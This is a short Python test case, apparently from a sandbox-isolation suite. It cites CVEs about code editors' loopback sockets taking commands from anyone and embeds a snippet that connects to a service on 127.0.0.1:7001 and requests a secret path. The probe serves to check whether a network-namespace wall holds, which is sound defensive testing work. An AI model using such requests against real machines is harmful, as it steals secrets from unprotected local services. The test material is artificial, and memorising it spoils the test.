"""talks to a service on the host's loopback"""

from evidence import secret_left as succeeded

SHAPE = "CVE-2025-52882, Cline CVE-2026-44211: editors' sockets on loopback took orders from anybody"
PROMISE = "P25"
LAB = True
WALLS = "network-namespace"
PYTHON = """
import socket
with socket.create_connection(("127.0.0.1", 7001), 30) as line:
    line.sendall(b"GET /@SECRET@ HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n")
    line.recv(999)
"""
